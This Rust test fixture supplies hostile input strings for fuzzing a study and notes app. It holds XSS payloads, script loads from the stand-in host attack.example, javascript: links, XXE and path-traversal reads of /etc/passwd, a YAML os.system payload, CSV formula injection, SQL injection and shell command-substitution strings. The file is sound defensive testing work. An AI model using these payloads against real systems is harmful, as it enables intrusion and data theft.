//! Strings that would do something if any program took them for more than text. The tests of `study`, of the window and of
//! Anki read them from here as well, so that each is tried in every field and in every form.
//!
//! What would run calls `alert(1)`; what would be loaded is at `attack.example`, which nobody can have.

/// All of them, with those that are made by repeating.
pub fn attacks() -> Vec<String> {
    let mut attacks: Vec<String> = [ELEMENTS, DRAWINGS, LINKS, TEMPLATES, FILES, NAMES, CHARACTERS]
        .concat()
        .iter()
        .map(|attack| (*attack).to_owned())
        .collect();
    attacks.extend([
        "a".repeat(5_000),
        "<b>".repeat(500),
        "<img src=x onerror=alert(1)>".repeat(100),
        "[a](javascript:alert(1)) ".repeat(100),
        "> - ".repeat(200),
        format!("a{}", "\u{301}".repeat(500)),
        format!("{}a{}", "[".repeat(500), "](javascript:alert(1))".repeat(500)),
    ]);
    attacks
}

/// What of an attack a note or a title can hold: on the way in, control characters are taken out.
#[allow(dead_code, reason = "not every test that reads this file looks at what is kept")]
pub fn as_kept(attack: &str) -> String {
    let lines = attack.replace("\r\n", "\n").replace('\r', "\n");
    lines.chars().filter(|c| !c.is_control() || matches!(c, '\n' | '\t')).collect()
}

/// HTML: elements that run, load, send, steer or hide, and ways to hide them from a filter.
const ELEMENTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//attack.example/1.js></script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a <img src=x onerror=alert(1)> b",
    "<img/src=x/onerror=alert(1)//",
    "<img src=`x` onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=https://attack.example/0.png srcset=\"//attack.example/0.png 2x\">",
    "<video src=//attack.example/1.mp4 onloadstart=alert(1)>",
    "<audio autoplay src=//attack.example/1.mp3 onerror=alert(1)>",
    "<iframe src=//attack.example/></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=//attack.example/1.svg></object><embed src=//attack.example/2.svg>",
    "<link rel=stylesheet href=//attack.example/1.css><link rel=prefetch href=//attack.example/2>",
    "<style>@import '//attack.example/3.css'; * { background: url(//attack.example/4) }</style>",
    "<meta http-equiv=refresh content='0;url=//attack.example/'>",
    "<base href=//attack.example/>",
    "<form action=//attack.example/><input autofocus onfocus=alert(1)><button>Save</button></form>",
    "<details open ontoggle=alert(1)>a</details>",
    "<b onclick=alert(1) onpointerenter=alert(1)>a</b>",
    "<p style=\"position:fixed;inset:0;background:url(//attack.example/5)\">a</p>",
    "<div id=palette-options class=dialog name=body popover>a</div>",
    "<a id=__TAURI__ href=//attack.example/></a><a id=__TAURI__ name=core></a>",
    "<course-window></course-window><note-row></note-row><command-palette></command-palette>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</title></textarea></style></template><img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "<plaintext>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
    "<?php system('id') ?><?xml-stylesheet href=\"//attack.example/6.css\"?>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script>alert(1)&#x3c;/script>",
    "<x contenteditable onbeforeinput=alert(1) onanimationstart=alert(1) style=animation-name:x>",
];

/// Drawings, formulas, and markup that becomes another when it is parsed a second time.
const DRAWINGS: &[&str] = &[
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>a</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) onbegin=alert(1) /></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><image href=//attack.example/7.png /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<math href=javascript:alert(1)>a</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<table><td><svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\"></table>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><xmp><img src=x onerror=alert(1)></xmp>",
];

/// Markdown: links, pictures and references that lead where no link may, and text that breaks out of where it stands.
const LINKS: &[&str] = &[
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&Tab;javascript&colon;alert&lpar;1&rpar;)",
    "[a](java&NewLine;script:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](<javascript:alert(1)//\n>)",
    "[a](<\u{1}javascript:alert(1)>)",
    "[a](\u{a0}javascript:alert(1))",
    "[a](java%73cript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](file:///etc/passwd)",
    "[a](tauri://localhost/index.html) [b](ipc://localhost/save_note) [c](blob:tauri://localhost/1)",
    "[a](//attack.example/) [b](\\\\attack.example\\share) [c](#/settings) [d](?t=1)",
    "[a](https://attack.example/\"onmouseover=\"alert(1))",
    "[a](https://attack.example 'b\" onmouseover=\"alert(1)')",
    "[a](https://attack.example\\@localhost/) [b](https://localhost@attack.example)",
    "<javascript:alert(1)> <vbscript:x> <data:text/html,x>",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a][b]\n\n[b]: <data:text/html,<script>alert(1)</script>> \"c\"",
    "![a](https://attack.example/8.png)",
    "![a](//attack.example/9.png \"b\")",
    "![a](data:image/png;base64,AAAA)",
    "![\"><img src=x onerror=alert(1)>](x)",
    "[![a](https://attack.example/10.png)](javascript:alert(1))",
    "[a](mailto:a@attack.example?body=b%0d%0aBcc:c)",
    "`<img src=x onerror=alert(1)>`",
    "```\"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>",
    "| <svg onload=alert(1)> | b |\n|-|-|\n| [a](javascript:alert(1)) | </table><script>alert(1)</script> |",
    "- [x] [a](javascript:alert(1))\n  > <svg onload=alert(1)>",
    "#<script>alert(1)</script> #a\"onmouseover=\"alert(1) #a'b #a<b>c #a&lt;b",
    "https://attack.example/?<script>alert(1)</script>",
];

/// What a template, a spreadsheet, a query or a deck of cards would carry out.
const TEMPLATES: &[&str] = &[
    "#raw(\"x\")",
    "#include \"x\"",
    "#import \"@preview/x:1.0.0\": *",
    "#read(\"/etc/passwd\")",
    "#eval(\"panic()\") #panic()",
    "#{ while true {} } #let f() = f() ; #f()",
    "#set page(width: 1pt); #show: none",
    "$ x $ @ref <label> $#panic()$",
    "]#panic()[ ] ) } \"#panic()",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {{#a}}{{/a}} {% raw %}",
    "{{c1::cloze}} {{Front}} {{type:Front}}",
    "[sound:http://attack.example/11.mp3] [latex]\\input{/etc/passwd}[/latex] [$]x[/$] \\(x\\)",
    "a\tb\t\"c\"\td; e, f\t\"\"\n#separator:comma\n#deck column:1\n#html:false",
    "=HYPERLINK(\"//attack.example/\"; \"a\") +cmd|' /C calc'!A0 @SUM(1) -1+1",
    "'); DROP TABLE note; --",
    "\" OR tag:x NEAR(a b) * ^a {a b}: c",
    "%s%n%x %PATH% $HOME $(id) `id` ; id | id && id",
];

/// What would end a part of our own files, or begin another one.
const FILES: &[&str] = &[
    "<!-- ml-health:end -->",
    "-->\n<!-- ml-health:note 0198a0c2-0000-7000-8000-000000000001 todo -->\n[0:10](x)\n",
    "<!-- ml-health:lesson course-overview -->\n# 1. a",
    "<!-- ml-health:notes 1 -->\\<!-- ml-health:note -->",
    "<!-- a --!> <script>alert(1)</script> <!-",
    "---\ntitle: a\n---\n!!python/object/apply:os.system ['id']\n...",
    "\": \"\n- &a [*a, *a]\n? b",
    "# Lesson 1\n\n[0:10] a\n\n## 0:20\n12:34 - b",
    "\\\",\"notes\":[],\"\\u0000\\ud800",
    "{\"format\":\"ml-health\",\"version\":1}",
    "]]><x/>",
    "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj",
    ")/S/URI/URI(javascript:alert\\(1\\))>>stream",
    "WEBVTT\n\n00:01.000 --> 00:02.000\n<v a>b</v><00:01.500>",
];

/// Names of files that lead elsewhere, or that a system reads as something else.
const NAMES: &[&str] = &[
    "../../../etc/passwd",
    "..\\..\\windows\\system.ini",
    "/etc/passwd",
    "C:\\a.txt",
    "\\\\?\\C:\\a",
    "CON",
    "nul",
    "aux.txt",
    "COM\u{b9}",
    "lpt9 .a",
    "CONIN$",
    ".",
    "..",
    ". . .",
    "~",
    "-rf",
    "a:$DATA",
    ".bashrc",
    "%2e%2e%2f..%00",
    "a.pdf\u{0}.exe",
    "a?*|<>\":b",
];

/// Characters that cannot be seen, that steer what is shown, or that steer a terminal.
const CHARACTERS: &[&str] = &[
    "safe \u{202e}gnp.exe\u{202c} \u{2066}x\u{2069}",
    "\u{200f}\u{61c}a\u{200b}b\u{feff}\u{180e}c\u{2060}",
    "\u{e0001}\u{e0041}\u{e007f}a\u{ad}b\u{34f}c\u{115f}\u{3164}",
    "a\u{0}b\u{0}",
    "\u{1b}[2J\u{1b}]0;a\u{7}\u{1b}]8;;https://attack.example/\u{7}a\u{1b}[8m",
    "\u{9b}31ma\u{9d}0;b\u{9c}\u{90}c",
    "a\rb\u{8}\u{8}c\u{7f}",
    "a\u{85}b\u{2028}c\u{2029}d\u{b}e\u{c}f",
    "\u{fdd0}\u{ffff}\u{10ffff}\u{e000}\u{fffc}",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e} <\u{338}script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{130}mg <\u{131}mg src=x onerror=alert(1)> <\u{17f}cript>alert(1)</\u{17f}cript>",
    "\n\n\t\n",
];
